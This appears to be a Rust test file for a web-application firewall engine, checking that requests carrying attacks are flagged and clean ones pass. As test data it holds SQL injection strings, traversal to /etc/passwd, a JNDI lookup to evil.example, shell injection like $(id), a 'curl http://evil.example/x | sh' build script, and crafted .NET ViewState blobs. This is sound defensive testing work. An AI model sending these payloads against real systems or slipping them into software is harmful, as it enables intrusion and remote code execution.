//! Whole requests and what is found in them.

use bartizan_request::RequestPart;

use super::*;

fn detections(target: &str, headers: &[(&str, &str)], body: &str) -> Vec<Detection> {
    let headers: Vec<(&[u8], &[u8])> = headers.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())).collect();
    let parts = RequestParts {
        method: "POST",
        target: target.as_bytes(),
        headers: &headers,
        body: body.as_bytes(),
        body_truncated: false,
    };
    inspect(&Engine::new(), &parts, &Limits::default(), &mut NoPolicy).detections
}

/// `FF 01`, a binary-serialized object (50), its length and the stream.
fn view_state(kind: &str) -> String {
    let mut stream =
        b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x04\x01\x00\x00\x00".to_vec();
    stream.push(u8::try_from(kind.len()).unwrap());
    stream.extend_from_slice(kind.as_bytes());
    stream.extend_from_slice(b"\x00\x0b");
    let mut state = vec![0xff, 0x01, 50, u8::try_from(stream.len()).unwrap()];
    state.extend_from_slice(&stream);
    base64(&state)
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut text = String::new();
    for three in bytes.chunks(3) {
        let bits =
            three.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        for at in 0..=three.len() {
            text.push(char::from(DIGITS[(bits >> (18 - 6 * at)) as usize & 63]));
        }
    }
    text
}

#[test]
fn objects_in_a_view_state_are_judged_by_what_they_make() {
    let form = |kind| {
        let body = format!("__VIEWSTATE={}", view_state(kind));
        detections("/", &[("content-type", "application/x-www-form-urlencoded")], &body)
    };
    let list = "System.Collections.Generic.List`1[[System.Int32, mscorlib]]";
    assert!(form(list).is_empty(), "{:?}", form(list));
    let found = form("System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]");
    assert!(found.iter().any(|found| found.subtype == "rce_dotnet_deser"), "{found:?}");
}

#[test]
fn a_sign_is_placed_in_its_value_and_in_the_request() {
    let form = ("content-type", "application/x-www-form-urlencoded");
    for (target, header, body, sign, sent) in [
        ("/?a=1&q=x%27+or+1%3D1--", ("a", "b"), "", "' or 1=1", "%27+or+1%3D1"),
        ("/", form, "a=1&q=x%27+or+1%3D1--", "' or 1=1", "%27+or+1%3D1"),
        ("/", ("content-type", "application/json"), r#"{"a":"x' or 1=1--"}"#, "' or 1=1", "' or 1=1"),
        ("/", ("x-a", "x' or 1=1--"), "", "' or 1=1", "' or 1=1"),
        ("/", ("content-type", "application/json"), r#"{"a":"x\u0027 or 1=1--"}"#, "' or 1=1", ""),
        ("http://shop.test/a/../../../../etc/passwd", ("a", "b"), "", "../", "../"),
    ] {
        let found = detections(target, &[header], body);
        let first = found.first().expect("nothing was found");
        let shown = &first.value[first.span.clone()];
        assert!(shown.starts_with(sign), "{first:?}");
        let span = first.point_span.clone().unwrap();
        // Short values are shown whole. That of the target has no scheme and host.
        assert_eq!(span, first.span, "{first:?}");
        let origin = first.origin.as_ref().map(|origin| {
            let whole = match origin.part {
                RequestPart::Target => target,
                RequestPart::Header(_) => header.1,
                RequestPart::Body => body,
            };
            &whole[origin.span.clone()]
        });
        assert!(origin.unwrap_or_default().starts_with(sent), "{first:?}");
        assert_eq!(origin.is_none(), sent.is_empty(), "{first:?}");
    }
}

#[test]
fn a_query_parameter_is_named_with_its_payload() {
    let found = detections("/search?q=1%27+union+select+password+from+users--&page=2", &[], "");
    let first = &found[0];
    assert_eq!(first.attack_type, AttackType::Sqli);
    assert_eq!(serde_json::to_value(&first.point).unwrap(), serde_json::json!(["get", "q"]));
    assert!(first.value.contains("union select password"));
    assert!(first.value[first.span.clone()].contains("union select"), "{first:?}");
    assert!(first.stamps.windows(2).all(|pair| pair[0] < pair[1]) && !first.stamps.is_empty());
}

#[test]
fn an_encoded_climb_shows_in_the_target() {
    let found = detections("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", &[], "");
    assert!(found.iter().any(|d| d.attack_type == AttackType::Ptrav), "{found:?}");
}

#[test]
fn segments_that_servers_leave_out_are_climbs() {
    for target in ["/.;/admin", "/;/admin", "/a/..%09/x", "/a/..%0d/x", "/a/..%0d%0a/x"] {
        let found = detections(target, &[], "");
        assert!(found.iter().any(|d| d.attack_type == AttackType::Ptrav), "{target}: {found:?}");
    }
    for target in ["/a;v=1/b", "/a/b;jsessionid=1", "/a?b=s/;/,/", "/a.;b/c", "/a/..b/c"] {
        assert_eq!(detections(target, &[], ""), [], "{target}");
    }
}

#[test]
fn fields_of_fixed_grammar_are_scanned_when_they_break_it() {
    for name in ["Sec-CH-UA", "DNT", "Host", "If-Modified-Since", "Sec-WebSocket-Key"] {
        let found = detections("/", &[(name, "${jndi:ldap://evil.example/a}")], "");
        assert!(found.iter().any(|d| d.attack_type == AttackType::Rce), "{name}: {found:?}");
    }
    let hints = "\"Chromium\";v=\"130\", \"Not?A_Brand\";v=\"99\", \"Not(A:Brand\";v=\"8\"";
    let plain =
        [("Sec-CH-UA", hints), ("If-Modified-Since", "Sun, 06 Nov 1994 08:49:37 GMT"), ("Host", "[::1]:80")];
    assert_eq!(detections("/", &plain, ""), []);
}

#[test]
fn a_clean_request_has_no_detections() {
    let body = r#"{"name":"Jane O'Reilly","note":"Rock and roll - 1 or 2 items","site":"https://example.com/a?b=c"}"#;
    let found =
        detections("/v1/orders?limit=10&sort=-created", &[("Content-Type", "application/json")], body);
    assert_eq!(found, []);
}

#[test]
fn a_clause_may_go_on_in_another_value() {
    let is_sqli =
        |target: &str| detections(target, &[], "").iter().any(|found| found.attack_type == AttackType::Sqli);
    for target in [
        "/a?a=1'%20union%20select&b=,password%20from%20users--%20-",
        "/a?b=,password%20from%20users--%20-&a=1'%20union%20select",
        "/a?a=1'%20union%20select&b=1,2,3",
        "/a?a=1'%20union%20select&b=,password%20from%20users--%20union%20select",
        "/?id=1%27%20UNION%20SELECT%201,version()--",
    ] {
        assert!(is_sqli(target), "{target}");
    }
    for target in ["/?id=1%27%20UNION%20SELECT", "/?q=1%27%20UNION%20SELECT&page=2&sort=-created&lang=en"] {
        assert!(!is_sqli(target), "{target}");
    }
    let found = detections("/a?a=1'%20union%20select&b=1,2", &[], "");
    assert_eq!(serde_json::to_value(&found[0].point).unwrap(), serde_json::json!(["get", "a"]));
}

struct NoSqli;
impl Policy for NoSqli {
    fn type_disabled(&self, _: &PointPath<'_>, attack_type: AttackType) -> bool {
        attack_type == AttackType::Sqli
    }
}

#[test]
fn a_disabled_type_is_not_reported() {
    let parts = RequestParts {
        method: "GET",
        target: b"/?q=1'+union+select+password+from+users--",
        headers: &[],
        body: b"",
        body_truncated: false,
    };
    let engine = Engine::new();
    let found = inspect(&engine, &parts, &Limits::default(), &mut NoSqli).detections;
    assert!(found.iter().all(|d| d.attack_type != AttackType::Sqli));
}

#[test]
fn excerpts_keep_the_sign_and_escape_bytes() {
    let mut value = vec![b'a'; 5000];
    value.extend_from_slice(b"\xff' or 1=1--");
    let (text, span) = excerpt(&value, &(5001..5010));
    assert!(text.contains("\\xff' or 1=1--"));
    assert!(text.len() <= 4096);
    assert_eq!(&text[span], "' or 1=1-");
}

#[test]
fn spans_name_the_sign_within_the_excerpt() {
    for (value, span, sign) in [
        ("a' or 1=1--", 1..9, "' or 1=1"),
        ("häß' or 1", 5..10, "' or "),
        ("abc", 0..3, "abc"),
        ("", 0..0, ""),
    ] {
        let (text, span) = excerpt(value.as_bytes(), &span);
        assert_eq!(&text[span], sign, "{value}");
    }
    // Within a character: the whole of it.
    let (text, span) = excerpt("aäb".as_bytes(), &(2..3));
    assert_eq!(&text[span], "ä");
    let long = format!("{}' or 1=1-- {}", "x".repeat(3000), "y".repeat(3000));
    let (text, span) = excerpt(long.as_bytes(), &(3000..3008));
    assert_eq!(&text[span], "' or 1=1");
}

#[test]
fn a_resource_for_queries_is_asked_whole_statements() {
    let soql = "Id,Name+FROM+Account+WHERE+Name%3D'Acme'";
    for target in [
        format!("/services/data/v60.0/query?q=SELECT+{soql}"),
        "/query?db=mydb&q=SELECT+%22value%22+FROM+%22cpu%22+WHERE+%22region%22%3D'us-west'".to_owned(),
    ] {
        assert_eq!(detections(&target, &[], ""), [], "{target}");
    }
    for target in [
        format!("/items?q=SELECT+{soql}"),
        format!("/query?name=SELECT+{soql}"),
        format!("/query?q=x'+UNION+SELECT+{soql}--"),
        format!("/query?q=SELECT+{soql}+UNION+SELECT+1--+"),
        "/api/query?q=select+'+union+select+password+from+users+where+'1'%3D'1".to_owned(),
        "/api/query?q=select+'+or+sleep(5)+or+'1'%3D'1".to_owned(),
        format!("/services/data/v60.0/query?q=SELECT+{soql}+or+'1'%3D'1'"),
        format!("/services/data/v60.0/query?q=SELECT+{soql}+or+sleep(5)+--+"),
    ] {
        let found = detections(&target, &[], "");
        assert!(found.iter().any(|d| d.attack_type == AttackType::Sqli), "{target}: {found:?}");
    }
}

#[test]
fn one_line_in_front_makes_no_program_of_a_command() {
    for command in ["$(id)", "`id`", ";id", "|whoami"] {
        let target = format!("/run?host=%23include+%3Ca%3E%0A{command}");
        let found = detections(&target, &[], "");
        assert!(found.iter().any(|d| d.attack_type == AttackType::Rce), "{target}: {found:?}");
    }
}

#[test]
fn scripts_of_a_package_build_it() {
    let json = [("content-type", "application/json")];
    let package = |command: &str| format!(r#"{{"name":"x","scripts":{{"build":"{command}"}}}}"#);
    for command in ["tsc && rm -rf dist", "rm -rf node_modules && npm ci", "NODE_ENV=test jest; npm run lint"]
    {
        assert_eq!(detections("/v1/packages", &json, &package(command)), [], "{command}");
    }
    for body in [
        package("tsc && curl http://evil.example/x | sh"),
        package("x; cat /etc/passwd"),
        r#"{"build":"x && rm -rf dist"}"#.to_owned(),
    ] {
        let found = detections("/v1/packages", &json, &body);
        assert!(found.iter().any(|d| d.attack_type == AttackType::Rce), "{body}: {found:?}");
    }
}
